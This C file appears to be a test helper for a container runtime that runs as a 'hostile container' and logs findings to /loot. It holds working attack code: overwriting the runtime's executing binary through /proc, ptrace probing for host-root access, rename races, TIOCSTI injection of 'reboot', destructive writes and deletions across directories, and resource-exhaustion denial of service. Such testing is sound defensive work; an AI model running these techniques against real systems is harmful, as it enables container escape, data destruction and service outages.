/*
 * What runs in a hostile container, linked statically. It writes what it got hold of to /loot, a line each.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static void loot(const char *format, ...)
{
	char line[4096];
	va_list args;
	va_start(args, format);
	int n = vsnprintf(line, sizeof line, format, args);
	va_end(args);
	int fd = open("/loot", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	if (fd >= 0) {
		if (write(fd, line, n) < 0)
			_exit(9);
		close(fd);
	}
}

static void link_of(const char *path, const char *what)
{
	char target[1024];
	ssize_t n = readlink(path, target, sizeof target - 1);
	if (n > 0)
		loot("%s %.*s\n", what, (int)n, target);
}

/* Keep a file that is executing by descriptor, and write to it once nobody executes it any more. */
static void overwrite(int fd, int patience_ms)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	link_of(path, "exe");
	for (int i = 0; i < patience_ms / 10; i++) {
		int writable = open(path, O_WRONLY);
		if (writable >= 0) {
			loot("overwritten %s\n", write(writable, "OWNED", 5) == 5 ? "yes" : "no");
			return;
		}
		if (errno != ETXTBSY) {
			loot("refused %s\n", strerror(errno));
			return;
		}
		usleep(10000);
	}
	loot("refused for good\n");
}

/* Everything that /proc and ptrace(2) give of a process that has just come into our pid namespace. */
static void examine(int pid, const char *marker)
{
	char path[1200], status[8192];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	link_of(path, "exe");
	snprintf(path, sizeof path, "/proc/%d/root%s", pid, marker);
	if (access(path, F_OK) == 0)
		loot("host-root through %s\n", path);
	snprintf(path, sizeof path, "/proc/%d/cwd%s", pid, marker);
	if (access(path, F_OK) == 0)
		loot("host-cwd through %s\n", path);
	for (int fd = 0; fd < 32; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		struct stat s;
		if (stat(path, &s) == 0 && S_ISDIR(s.st_mode))
			link_of(path, "directory");
	}
	if (syscall(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0) == 0) {
		syscall(SYS_ptrace, PTRACE_INTERRUPT, pid, 0, 0);
		if (waitpid(pid, 0, __WALL) != pid)
			return;
		snprintf(path, sizeof path, "/proc/%d/status", pid);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t n = fd < 0 ? 0 : read(fd, status, sizeof status - 1);
		status[n > 0 ? n : 0] = 0;
		char *caps = strstr(status, "CapEff:");
		if (caps)
			loot("traced with %.16s\n", caps + 8);
		syscall(SYS_ptrace, PTRACE_DETACH, pid, 0, 0);
		close(fd);
	}
}

static void watch(int milliseconds, const char *marker)
{
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	loot("watching\n");
	do {
		for (int pid = 2; pid < 64; pid++) { /* quicker than to list /proc */
			char path[32];
			snprintf(path, sizeof path, "/proc/%d", pid);
			if (pid != getpid() && access(path, F_OK) == 0)
				examine(pid, marker);
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < milliseconds);
	loot("watched\n");
}

/* rename(2) one thing over another and back, as fast as the kernel lets us. */
static void swap(const char *one, const char *other, int rounds)
{
	for (int i = 0; i < rounds; i++)
		syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
	loot("swapped %d\n", rounds);
}

/* Write into the input queue of the terminal on stdin, as if somebody typed there (TIOCSTI). */
static void inject(void)
{
	loot("controlling %d\n", ioctl(0, TIOCSCTTY, 0) == 0 || ioctl(0, TIOCSCTTY, 1) == 0);
	loot("tty %d\n", open("/dev/tty", O_RDWR) >= 0);
	for (const char *c = "reboot\n"; *c; c++)
		loot("injected %d\n", ioctl(0, TIOCSTI, c) == 0);
}

/* Everything that can be done to one file by somebody who means no good. */
static void scribble_on(const char *path)
{
	static char junk[70000];
	static const char *values[] = {
		"1\0001", "", "0 0\n", "-1", "99999999999999999999999", "1 2 3 4 5 6 7 8", "\xff\xd9\xa1", "a\033[2Jb",
	};
	char buffer[4096];
	int fd = open(path, O_RDWR | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd >= 0) {
		for (unsigned i = 0; i < sizeof values / sizeof *values; i++)
			if (pwrite(fd, values[i], i ? strlen(values[i]) : 3, 0) < 0)
				continue;
		memset(junk, '7', sizeof junk);
		if (pwrite(fd, junk, sizeof junk, 0) < 0 || ftruncate(fd, 1 << 20) < 0)
			errno = 0;
		struct iovec parts[] = {{"1", 1}, {"2\n", 2}};
		if (writev(fd, parts, 2) < 0 || fallocate(fd, 0, 0, 4096) < 0)
			errno = 0;
		close(fd);
	}
	fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd >= 0) {
		struct pollfd one = {.fd = fd, .events = POLLPRI | POLLIN};
		long long far[] = {0, 1, 4095, 1LL << 33, -1LL};
		for (unsigned i = 0; i < sizeof far / sizeof *far; i++)
			if (pread(fd, buffer, i == 1 ? 1 : sizeof buffer, far[i]) < 0)
				errno = 0;
		lseek(fd, 5, SEEK_HOLE);
		poll(&one, 1, 0);
		ioctl(fd, TIOCSTI, "x");
		fcntl(fd, F_SETLEASE, F_RDLCK);
		void *mapped = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
		if (mapped != MAP_FAILED)
			munmap(mapped, 4096);
		close(fd);
	}
	fchmodat(AT_FDCWD, path, 0777, 0);
	if (truncate(path, 5) < 0 || chown(path, 5, 5) < 0 || unlink(path) < 0 || rename(path, "/tmp/x") < 0)
		errno = 0;
	setxattr(path, "user.x", "y", 1, 0);
}

static void scribble(const char *directory)
{
	DIR *all = opendir(directory);
	struct dirent *entry;
	char path[4096];
	while (all && (entry = readdir(all))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
		if (entry->d_type == DT_DIR)
			scribble(path);
		else if (entry->d_type == DT_REG && !strstr(path, "/slab/"))
			scribble_on(path);
	}
	if (all)
		closedir(all);
	mkdir(strcat(path, "x"), 0777);
}

/* Send the service manager a connection that takes an hour to close, since its other end never reads. */
static void linger(void)
{
	static char much[1 << 20];
	struct sockaddr_in here = {AF_INET, 0, {htonl(INADDR_LOOPBACK)}};
	socklen_t size = sizeof here;
	int listener = socket(AF_INET, SOCK_STREAM, 0), full = socket(AF_INET, SOCK_STREAM, 0);
	bind(listener, (void *)&here, size);
	listen(listener, 1);
	getsockname(listener, (void *)&here, &size);
	connect(full, (void *)&here, size);
	while (send(full, much, sizeof much, MSG_DONTWAIT) > 0)
		continue;
	struct linger hour = {1, 3600};
	setsockopt(full, SOL_SOCKET, SO_LINGER, &hour, sizeof hour);

	struct sockaddr_un manager = {AF_UNIX, ""};
	snprintf(manager.sun_path, sizeof manager.sun_path, "%s", getenv("NOTIFY_SOCKET"));
	char room[CMSG_SPACE(sizeof full)] = "";
	struct iovec text = {"STATUS=slow", 11};
	struct msghdr message = {&manager, sizeof manager, &text, 1, room, sizeof room, 0};
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);
	head->cmsg_level = SOL_SOCKET;
	head->cmsg_type = SCM_RIGHTS;
	head->cmsg_len = CMSG_LEN(sizeof full);
	memcpy(CMSG_DATA(head), &full, sizeof full);
	sendmsg(socket(AF_UNIX, SOCK_DGRAM, 0), &message, 0);
	close(full);
	pause();
}

/* All the inotify instances that the kernel gives to one user, held for good. */
static void hoard(void)
{
	int made = 0;

	while (inotify_init1(0) >= 0)
		made++;
	loot("hoarded %d\n", made);
	pause();
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";
	if (!strcmp(mode, "overwrite"))
		overwrite(atoi(argv[2]), atoi(argv[3]));
	else if (!strcmp(mode, "watch"))
		watch(atoi(argv[2]), argv[3]);
	else if (!strcmp(mode, "swap"))
		swap(argv[2], argv[3], atoi(argv[4]));
	else if (!strcmp(mode, "inject"))
		inject();
	else if (!strcmp(mode, "linger"))
		linger();
	else if (!strcmp(mode, "hoard"))
		hoard();
	else if (!strcmp(mode, "scribble")) {
		signal(SIGIO, SIG_IGN); /* leases are broken */
		for (int i = 2; i < argc; i++)
			scribble(argv[i]);
		loot("scribbled\n");
	} else if (!strcmp(mode, "wait"))
		pause();
	return 0;
}
